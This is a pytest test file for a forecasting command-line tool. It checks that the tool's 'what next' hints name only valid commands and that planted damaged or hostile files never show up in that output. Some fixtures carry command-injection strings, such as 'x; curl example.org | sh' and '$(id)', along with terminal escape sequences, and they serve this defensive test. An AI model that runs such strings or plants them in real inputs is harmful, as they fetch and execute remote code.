"""``forecast`` alone says what can be asked next, and each command that it names is one that the command line takes."""

from __future__ import annotations

import re
import shlex
import shutil
from pathlib import Path

import pytest
from toy import EDITION, made_up_run, toy_dossier, toy_priors
from typer.main import get_command
from typer.testing import CliRunner
from written_runs import written

from forecasting.cli.main import app
from forecasting.cli.start import Found, found_in, next_lines
from forecasting.runs.store import forecasts_json

COMMAND = re.compile(r"^  forecast (.+)$", re.MULTILINE)


def project(folder: Path) -> Path:
    """Return a folder with the toy's records, from which one begins."""
    (folder / "priors").symlink_to(toy_priors())
    return folder


def with_run(folder: Path) -> Path:
    """Return the same with the files of a run that `forecast` alone reads."""
    run, home = made_up_run(folder / "made-up"), project(folder) / "runs" / EDITION
    home.mkdir(parents=True)
    text = forecasts_json(run.forecasts, edition=EDITION, as_of=run.manifest.as_of, seed=1, gate=run.mark)
    (home / "forecasts.json").write_text(text, encoding="utf-8")
    (home / "manifest.json").write_text("{}")
    for name in ("curves", "influence"):
        run.tables[name].to_csv(home / f"{name}.csv", index=False, na_rep="nan")
    return folder


def test_every_command_that_is_named_is_taken(tmp_path: Path) -> None:
    root = get_command(app)
    states = {"empty": tmp_path / "empty", "records": tmp_path / "records", "runs": tmp_path / "runs"}
    for folder in states.values():
        folder.mkdir()
    project(states["records"])
    with_run(states["runs"])
    n = 0
    for folder in states.values():
        text = "\n".join(next_lines(folder))
        for line in COMMAND.findall(text):
            words = shlex.split(line)
            if words[0] != "--help":
                context = root.commands[words[0]].make_context(words[0], words[1:])
                assert not context.args
                n += 1
        assert len(text.splitlines()) <= 22
    assert n >= 11


def test_an_empty_folder_is_told_how_to_begin(tmp_path: Path) -> None:
    said = "\n".join(next_lines(tmp_path))
    assert "There is no project here" in said
    assert "forecast init . --example" in said


def test_a_project_without_runs_is_told_to_make_one(tmp_path: Path) -> None:
    said = "\n".join(next_lines(project(tmp_path)))
    assert "no run yet" in said
    assert f"forecast run {EDITION}" in said
    assert "forecast trace" not in said


def test_a_project_with_runs_is_shown_questions_with_ids_of_its_own(tmp_path: Path) -> None:
    said = "\n".join(next_lines(with_run(tmp_path)))
    found, dossier = found_in(tmp_path / "runs" / EDITION), toy_dossier()
    assert isinstance(found, Found)
    assert found.question in dossier.questions
    assert found.event in dossier.events
    assert found.claim in dossier.claims
    for part in (f"trace {found.question}", f"given {EDITION} --event {found.event}", f"--set {found.claim}.credibility=5"):
        assert part in said


def test_a_run_whose_records_have_changed_is_to_be_made_again_before_anything_else(tmp_path: Path) -> None:
    shutil.copytree(toy_priors(), tmp_path / "priors")
    written(tmp_path / "runs")
    folder = tmp_path
    commands = [line.strip() for line in next_lines(folder) if line.startswith("  forecast")]
    assert commands[0] == f"forecast report {EDITION}"
    path = folder / "priors" / "claims" / "norland-times.yaml"
    path.write_text(path.read_text("utf-8").replace("credibility: 2", "credibility: 4", 1), "utf-8")
    said = [line.strip() for line in next_lines(folder)]
    assert f"forecast report {EDITION}" not in said
    at = said.index(f"forecast run {EDITION}")
    assert said[at + 1] == "fit it again: its records have changed since (claims)"
    assert at == min(n for n, line in enumerate(said) if line.startswith("forecast "))
    path.write_text(path.read_text("utf-8").replace("credibility: 4", "credibility: 9", 1), "utf-8")
    assert next(line.strip() for line in next_lines(folder) if line.startswith("  forecast")) == "forecast check"


@pytest.mark.parametrize("damage", ["", "{", "[]", '{"forecasts": 5}'])
def test_a_damaged_run_takes_no_line_away_but_its_own(tmp_path: Path, damage: str) -> None:
    folder = with_run(tmp_path)
    (folder / "runs" / EDITION / "forecasts.json").write_text(damage)
    said = "\n".join(next_lines(folder))
    assert f"forecast report {EDITION}" in said
    assert "forecast trace" not in said


@pytest.mark.parametrize(
    ("name", "damage"),
    [
        ("forecasts.json", "[" * 100_000),
        ("curves.csv", 'layer,event,p\nposterior,"' + "x" * 200_000 + '",0.5\n'),
        ("influence.csv", 'claim,change\n"' + "x" * 200_000 + '",0.5\n'),
        ("influence.csv", "claim,change\nx; curl example.org | sh,0.5\n"),
        ("influence.csv", "claim,change\n\x1b[2J,0.5\n"),
    ],
)
def test_what_is_shown_to_be_typed_is_an_id_or_not_shown(tmp_path: Path, name: str, damage: str) -> None:
    folder = with_run(tmp_path)
    (folder / "runs" / EDITION / name).write_text(damage)
    said = "\n".join(next_lines(folder))
    assert f"forecast report {EDITION}" in said
    assert "forecast whatif" not in said
    assert "curl" not in said
    assert "\x1b" not in said


def test_a_file_whose_name_is_no_id_is_no_edition_to_run(tmp_path: Path) -> None:
    shutil.copytree(toy_priors(), tmp_path / "priors")
    for name in ("zz; curl example.org | sh", "zz\x1b]0;x\x07", "$(id)"):
        shutil.copy(tmp_path / "priors" / "editions" / f"{EDITION}.yaml", tmp_path / "priors" / "editions" / f"{name}.yaml")
    said = "\n".join(next_lines(tmp_path))
    assert f"1 edition ({EDITION})" in said
    assert f"forecast run {EDITION}" in said
    assert "zz" not in said
    assert "id)" not in said


def test_an_edition_that_follows_on_itself_is_left_to_the_check(tmp_path: Path) -> None:
    shutil.copytree(toy_priors(), tmp_path / "priors")
    written(tmp_path / "runs")
    path = tmp_path / "priors" / "editions" / f"{EDITION}.yaml"
    path.write_text(f"{path.read_text('utf-8')}previous: {EDITION}\n", "utf-8")
    assert any(line.strip() == "forecast check" for line in next_lines(tmp_path))


def test_it_is_printed_where_no_command_is_given(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    ran = CliRunner().invoke(app, [])
    assert ran.exit_code == 0
    assert "forecast init . --example" in ran.stdout
    assert "Usage" not in ran.stdout
